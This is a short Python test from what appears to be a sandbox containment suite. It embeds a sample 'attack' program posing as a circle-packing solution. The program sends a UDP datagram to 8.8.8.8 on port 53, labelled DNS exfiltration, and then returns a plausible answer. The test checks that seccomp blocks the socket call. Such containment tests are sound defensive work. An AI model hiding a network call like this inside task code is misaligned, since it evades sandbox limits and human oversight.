"""Attack: Sends a UDP datagram (DNS exfiltration)."""
from contain import Attack, contained

ATTACK = Attack(
    name="network_udp",
    task="circle_packing_26",
    reason=r"PermissionError",
    contained_by="seccomp: socket() fails with EACCES",
    program=r'''
import socket


def run():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))
    return {'centers': [[0.5, 0.5]], 'radii': [0.1]}
''',
)


def test_network_udp(tmp_path):
    contained(ATTACK, tmp_path)
